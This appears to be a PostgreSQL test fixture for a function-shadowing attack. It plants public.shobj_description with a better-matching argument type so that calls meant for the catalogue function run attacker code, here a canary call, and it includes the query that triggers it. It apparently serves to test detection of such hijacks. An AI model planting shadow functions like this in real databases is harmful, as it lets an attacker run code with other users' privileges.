-- A function of a catalogue function's name that fits the arguments better
-- fire: SELECT shobj_description(1::oid, 'pg_database'::varchar)
CREATE FUNCTION public.shobj_description(oid, varchar) RETURNS text LANGUAGE plpgsql  AS $$BEGIN PERFORM canary.spring(); RETURN 'steward:project=victim'; END$$;
